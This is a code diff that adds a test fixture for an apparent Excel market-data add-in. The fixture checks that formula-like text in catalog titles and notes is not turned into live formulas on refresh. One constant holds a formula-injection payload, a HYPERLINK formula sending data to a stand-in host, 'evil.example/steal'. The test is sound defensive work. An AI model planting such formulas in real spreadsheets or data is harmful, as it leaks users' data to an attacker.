@@ -130,3 +130,45 @@ export function compsWorkbook(options: { afterMs?: number } = {}): LabelledWorkb
     cells,
   );
 }
+
+export const INJECTED_TITLE = '=HYPERLINK("http://evil.example/steal",MD.VERSION())';
+export const FROZEN_TEXT = '=MD.LATEST("eth","PRICE")';
+export const QUOTED_NOTE = '=MD.SERIES("eth","PRICE") is how we fetch prices';
+
+/**
+ * Text that looks like MD formulas, in the three places a refresh once turned
+ * it into live formulas: a catalog title inside a live MD.ASSETS spill, text
+ * Freeze wrote with an apostrophe, and a user's own note typed with one. Each
+ * is a constant; `Range.formulas` returns it as its bare text. Beside them,
+ * real MD formulas that must be refreshed.
+ */
+export function injectionWorkbook(): LabelledWorkbook {
+  const catalog = [
+    ["Symbol", "Name", "Title"],
+    ["eth", "Ether", "Ethereum"],
+    ["evil", "Evil coin", INJECTED_TITLE],
+  ];
+  const refreshedCatalog = [...catalog, ["sol", "Solana", "Solana"]];
+  return build(
+    [{ name: "Catalog" }, { name: "Notes" }],
+    [
+      {
+        sheet: "Catalog",
+        address: "A1",
+        cell: { formula: '=MD.ASSETS("")', spill: catalog },
+        md: true,
+        fresh: { spill: refreshedCatalog, afterMs: 10 },
+      },
+      {
+        sheet: "Notes",
+        address: "B2",
+        cell: { formula: latest("btc"), value: 60000 },
+        md: true,
+        fresh: { value: 61000, afterMs: 10 },
+      },
+      // Freeze wrote "'" + text; Excel stores the text without the apostrophe.
+      { sheet: "Notes", address: "B3", cell: { value: FROZEN_TEXT }, md: false },
+      { sheet: "Notes", address: "B4", cell: { value: QUOTED_NOTE }, md: false },
+    ],
+  );
+}
